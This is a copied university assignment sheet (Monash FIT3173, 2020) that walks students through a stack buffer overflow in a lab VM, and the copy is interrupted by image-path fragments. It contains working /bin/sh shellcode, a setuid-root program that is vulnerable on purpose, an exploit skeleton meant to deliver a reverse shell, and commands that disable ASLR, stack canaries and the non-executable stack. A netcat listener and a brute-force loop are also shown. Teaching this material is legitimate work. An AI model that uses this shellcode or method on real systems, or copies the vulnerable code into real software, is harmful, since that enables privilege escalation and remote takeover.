Skip to main content

辅导案例-FIT 3173

By May 15, 2020No Comments

FIT 3173 Software Security Assignment I (S1 2020) Total Marks 100 Due on April 25, 2020, Saturday noon, 11:59:59 1 Overview The learning objective of this assignment is for you to gain a first-hand experience on buffer overflow attack and get a deeper understanding on how to use cryptographic algorithms correctly in practice. All tasks in this assignment can be done on “SeedVM” as used in labs. Please refer to Section 2 for submission notes. 2 Submission You need to submit a lab report (one single PDF file) to describe what you have done and what you have observed with screen shots whenever necessary; you also need to provide explanation or codes to the observations that are interesting or surprising. In your report, you need to answer all the questions listed in this manual. Please answer each question using at most 100 words. Typeset your report into .pdf format (make sure it can be opened with Adobe Reader) and name it as the format: [Your Name]-[Student ID]- FIT3173-Assignment1, e.g., HarryPotter-12345678-FIT3173-Assignment1.pdf. All source code if required should be embedded in your report. In addition, if a demonstration video is required, you should record your screen demonstration with your voice explanation and upload the video to your Monash Google Drive. The shared URL of the video should be mentioned in your report wherever required. You can use this free tool to make the video: ; other tools are also fine. Then, please upload the PDF file to Moodle. Note: the assignment is due on April 25, 2020, Saturday noon, 11:59:59 (Firm!). Late submission penalty: 10 points deduction per day. If you require a special consideration, the application should be submitted and notified at least three days in advance. Zero tolerance on plagiarism: If you are found cheating, penalties will be applied, i.e., a zero grade for the unit. Uni-versity polices can be found at academic-integrity 3 Buffer Overflow Vulnerability [70 Marks] The learning objective of this part is for you to gain the first-hand experience on buffer-overflow vulnerability by putting what they have learned about the vulnerability from class into action. Buffer overflow is defined as the condition in which a program attempts to write data beyond the boundaries of pre-allocated fixed length buffers. This vulnerability can be utilized by an attacker to alter the flow control of the program, even execute arbitrary pieces of code to enable remote access attacks. This vulnerability arises due to the mixing of the storage for data (e.g. buffers) and the storage for controls (e.g. return addresses): an overflow in the data part can affect the control flow of the program, because an overflow can change the return address. In this part, you will be given a program with a buffer-overflow vulnerability; the task is to develop a scheme to exploit the vulnerability and finally send a remote access to an attacker. In addition to the attacks, you will be guided to walk through several protection schemes that have been implemented in the operating system to counter against the buffer overflow. You need to evaluate whether the schemes work or not and explain why. 1 3.1 Initial setup You can execute the tasks using our pre-built Ubuntu virtual machines.Ubuntu and other Linux dis- tributions have implemented several security mechanisms to make the buffer-overflow attack difficult. To simplify our attacks, we need to disable them first. Address Space Randomization. Ubuntu and several other Linux-based systems uses address space ran- domization torandomize the starting address of heap and stack. This makes guessing the exact addresses difficult; guessing addresses is one of the critical steps of buffer-overflow attacks. In this part, we disable these features using the following commands: $ su root Password: (enter root password “seedubuntu”) # sysctl -w kernel.randomize_va_space=0 # exit The StackGuard Protection Scheme. The GCC compiler implements a security mechanism called “Stack Guard” to prevent buffer overflows. In the presence of this protection, buffer overflow will not work. You can disable this protection if you compile the program using the -fno-stack-protector switch. For example, to compile a program example.c with Stack Guard disabled, you may use the following command: $ gcc -fno-stack-protector example.c Non-Executable Stack. Ubuntu used to allow executable stacks, but this has now changed: the binary images of programs (and shared libraries) must declare whether they require executable stacks or not, i.e., they need to mark a field in the program header. Kernel or dynamic linker uses this marking to decide whether to make the stack of this running program executable or non-executable. This marking is done automatically by the recent versions of gcc, and by default, the stack is set to be non-executable. To change that, use the following option when compiling programs: For executable stack: $ gcc -z execstack -o test test.c For non-executable stack: $ gcc -z noexecstack -o test test.c 3.2 Task 1: Shellcode Practice [10 Marks] Before you start the attack, we want you to exercise with a shellcode example. A shellcode is the code to launch a shell. It is a list of carefully crafted instructions created by malicious users/attackers so that it can be executed once the code is injected into a vulnerable program. Therefore, it has to be loaded into the memory so that we can force the vulnerable program to jump to it. Consider the following program: #include intmain( ) { char *name[2]; name[0] = ‘‘/bin/sh’’; 2 name[1] = NULL; execve(name[0], name, NULL); } The shellcode that we use is the assembly version of the above program. The following program shows you how to launch a shell by executing a shellcode stored in a buffer. Q1: Please compile and run the following code, and see whether a shell is invoked. Please briefly describe your observations. [Marking scheme: 5 marks for the screenshot and 5 marks for the expla- nation] /* call_shellcode.c */ /*A program that creates a file containing code for launching shell*/ #include #include #include const char code[] = “\x31\xc0” /* Line 1: xorl %eax,%eax */ “\x50” /* Line 2: pushl %eax */ “\x68″”//sh” /* Line 3: pushl $0x68732f2f */ “\x68″”/bin” /* Line 4: pushl $0x6e69622f */ “\x89\xe3” /* Line 5: movl %esp,%ebx */ “\x50” /* Line 6: pushl %eax */ “\x53” /* Line 7: pushl %ebx */ “\x89\xe1” /* Line 8: movl %esp,%ecx */ “\x99” /* Line 9: cdq */ “\xb0\x0b” /* Line 10: movb $0x0b,%al */ “\xcd\x80” /* Line 11: int $0x80 */ ; int main(int argc, char **argv) { char buf[sizeof(code)]; strcpy(buf, code); ((void(*)( ))buf)( ); } Please use the following command to compile the code (don’t forget the execstack option): $ gcc -z execstack -g -o call_shellcode call_shellcode.c The shellcode is stored in the variable code in the above program. A few places in this shellcode are worth mentioning. First, the third instruction pushes “//sh”, rather than “/sh” into the stack. This is because we need a 32-bit number here, and “/sh” has only 24 bits. Fortunately, “//” is equivalent to “/”, so we can get away with a double slashsymbol. Second, before calling the execve() system call, we need to store name[0] (the address of the string), name (the address of the array), and NULL to the %ebx, %ecx, and %edx registers, respectively. Line 5 stores name[0] to %ebx; Line 8 stores name to %ecx; Line 9 sets 3 %edx to zero. There are other ways to set %edx to zero (e.g., xorl %edx, %edx); the one (cdq) used here is simply a shorter instruction: it copies the sign (bit 31) of the value in the EAX register (which is 0 at this point) into every bit position in the EDX register, basically setting %edx to 0. Third, the system call execve() is called when we set %al to 11, and execute “int $0x80”. 3.3 The Vulnerable Program [5 Marks] /* stack.c */ /* This program has a buffer overflow vulnerability. */ /* Our task is to exploit this vulnerability */ #include #include #include int bof(char *str, int studentId) {
int bufferSize; bufferSize = 12 + studentId%32; char buffer[bufferSize]; /* The following statement has a buffer overflow problem */ strcpy(buffer, str); return 1; } int main(int argc, char **argv) { char str[517]; FILE *badfile; int studentId = ;// please put your student ID badfile = fopen(“badfile”, “r”); fread(str, sizeof(char), 517, badfile); bof(str,studentId); printf(“Returned Properly\n”); return 1; } You need to enter your student ID to the variable studentId. Then, compile the above vulnerable program and make it set-root-uid. You can achieve this by compiling it in the root account and chmod the executable to 4755 (don’t forget to include the execstack and -fno-stack-protector options to turn off the non-executable stack and StackGuard protections): $ su root Password (enter root password “seedubuntu”) # gcc -g -o stack -z execstack -fno-stack-protector stack.c 4 # chmod 4755 stack # exit The above program has a buffer overflow vulnerability. It first reads an input from a file called “badfile”, and then passes this input to another buffer in the function bof(). The original input can have a maxi- mum length of 517 bytes, but the buffer in bof() has a limited size in the range [12, 43] bytes. Because strcpy() does not check boundaries, buffer overflow will occur. It should be noted that the program gets its input from a file called “badfile”. This file is under users’ control. Now, our objective is to create the contents for “badfile”, such that when the vulnerable program copies the contents into its buffer, a remote access will be given to an attacker. [Marking scheme: 5 marks for the screenshot when successfully compiling stack.c file] 3.4 Task 2: Exploiting the Vulnerability [30 Marks] We provide you with a partially completed exploit code called exploit.c. The goal of this code is to con- struct contents for “badfile”. In this code, you need to inject a reverse shell into the variable shellcode, and then fill the variable buffer with appropriate contents. /* exploit.c */ /* A program that creates a file containing code for launching shell*/ #include #include #include char shellcode[]= /* add your reverse shellcode here*/; void main(int argc, char **argv) { char buffer[517]; FILE *badfile; /* Initialize buffer with 0x90 (NOP instruction) */ memset(&buffer, 0x90, 517); /* You need to fill the buffer withappropriate contents here */ /* Save the contents to the file “badfile” */ badfile = fopen(“./badfile”, “w”); fwrite(buffer, 517, 1, badfile); fclose(badfile); } You need to read Appendix 5.1 to investigate how to create a reverse shellcode. Then, you also need to study howto simulate an attacker, who is listening at a specific address/port and waiting for the shell. We refer you to Appendix 5.2 for this simulation. After you finish the above program, compile and run it. This will generate the contents for “badfile”. Then run the vulnerable program stack. If your exploit is implemented correctly, the attacker should be able to get the reverse shell. 5 Important: Pleasecompile your vulnerable program first. Please note that the program exploit.c, which generates the bad file, can be compiled with the default Stack Guard protection enabled. This is because we are not going to overflow the buffer in this program. We will be overflowing the buffer in stack.c, which is compiled with the Stack Guard protection disabled. $ gcc -g -o exploit exploit.c $./exploit // create the badfile $./stack // launch the attack by running the vulnerable program If the attacker obtains the shell successfully, her terminal should be as follows (assuming that she is listening at the port 4444, and the program stack is running at the address $[02/01/20][email protected]:˜$ nc -lvp 4444 // listening at the port 4444 Listening on [] (family 0, port 4444) Connection from [] port 4444 [tcp/*] accepted Once the attacker obtains the shell, she can remotely manipulate all the current files where the program stack runs. Q2: Provide your video demonstration evidence to support and verify that you have performed the attack and it worked successfully. You need to upload your demo video to your Monash Google Drive and embed its shared link to your report so that the teaching team can view and verify your works. In the video, you need to demonstrate following key points: • The buffer overflow happens and the attacker receives the shell when the victim executes the vulner- ableprogram stack. (10 marks if the attack works during your demonstration video) • Debug the program stack to investigate the return memory address and local variables in the func- tion bof(). (10 marks for the debug demonstration and memory analysis) • Open the program exploit.c and explain clearly line by line how you structurise the content for “badfile”.(10 marks for your explaination during the demonstration video) Hint: Please read the Guidelines of this part. Also you can use the GNU debugger gdb to find the address of buffer[bufferSize] and “Return Address”, see Guidelines and Appendix. Please note that providing incorrect student ID will result 0 mark for this task. The full marks only given if you have solid explanation with supporting memory address analysis. 3.5 Task 3: Address Randomization [5 Marks] Now, we turn on the Ubuntu’s address randomization. We run the same attack developed in the above task. Can you get a shell? If not, what is the problem? How does the address randomization make your attacks difficult? You can use the following instructions to turn on the address randomization: $ su root Password: (enter root password “seedubuntu”) # /sbin/sysctl -w kernel.randomize_va_space=2 If running the vulnerable code once does not get you the root shell, how about running it for many times? You can run ./stack in the following loop , and see what will happen. If your exploit program is designed properly, you should be able to get the root shell after a while. You can modify your exploit program to increase the probability of success (i.e., reduce the time that you have to wait). 6 $ sh -c “while [ 1 ]; do ./stack; done;” Q3: Follow the above steps, and answer the highlight questions. You should describe your obser- vation and explanation briefly. Furthermore, try whether you can obtain root shell again. [Marking scheme: 3 marks for the screenshot and 2 marks for the explanation and solutions]. 3.6 Task 4: Stack Guard [5 Marks]Before working on this task, remember to turn off the address randomization first, or you will not know which protection helps achieve the protection. In our previous tasks, we disabled the “Stack Guard”protection mechanism in GCC when compiling the programs. In this task, you may consider repeating the above task in the presence of Stack Guard. To do that, you should compile the program without the -fno-stack-protector’ option. For this task, you will recompile the vulnerable program, stack.c, to use GCC’s Stack Guard, execute task 1 again, and report your observations. You may report any error messages you observe. In the GCC 4.3.3 and newer versions, Stack Guard is enabled by default. Therefore, you have to disable Stack Guard using the switch mentioned before. In earlier versions, it was disabled by default. If you use a older GCC version, you may not have to disable Stack Guard. Q4: Follow the above steps, and report your observations. [Marking scheme: 3 marks for the screenshot and 2 marks for the explanation and solutions] 3.7 Task 5: Non-executable Stack [5 Marks] Before working on this task, remember to turn off the address randomization first, or you will not know whichprotection helps achieve the protection. In our previous tasks, we intentionally make stacks executable. In this task, we recompile our vulnerable program using the noexecstack option, and repeat the attack in the above task. Can you get a shell? If not, what is the problem? How does this protection scheme make your attacks difficult. You can use the following instructions to turn on the non-executable stack protection. # gcc -o stack -fno-stack-protector -z noexecstack stack.c It should be noted that non-executable stack only makes it impossible to run shellcode on the stack, but it does not prevent buffer-overflowattacks, because there are other ways to run malicious code after exploiting a buffer-overflow vulnerability. If you are using our SEEDVM, whether the non-executable stack protection works or not depends on the CPU and the setting of your virtual machine, because this protection depends on the hardware feature that is provided by CPU. If you find that the non-executable stack protection does not work, check our document (“Notes on Non-Executable Stack”) that is linked to the course web page, and see whether the instruction in the document can help solve your problem. If not, then you may need to figure out the problem yourself. Q5: Follow the abovesteps, and answer the highlight questions. You should describe your obser- vation and explanation briefly. [Marking scheme: 3 marks for the screenshot and 2 marks for the explanation and solutions] 3.8 Task 6: Completion [10 Marks] All codes in above files (shellcode.c, exploit.c, stack.c, and badfile) need to be attached to your PDF report to obtain full marks. Each file occupies 2.5 Marks. 7 3.9 Guidelines We can load the shellcode into “badfile”, but it will not be executed because our instruction pointer will not be pointing to it. One thing we can do is to change the return address to point to the shellcode. But we have two problems: (1) we do not know where the return address is stored, and (2) we do not know where 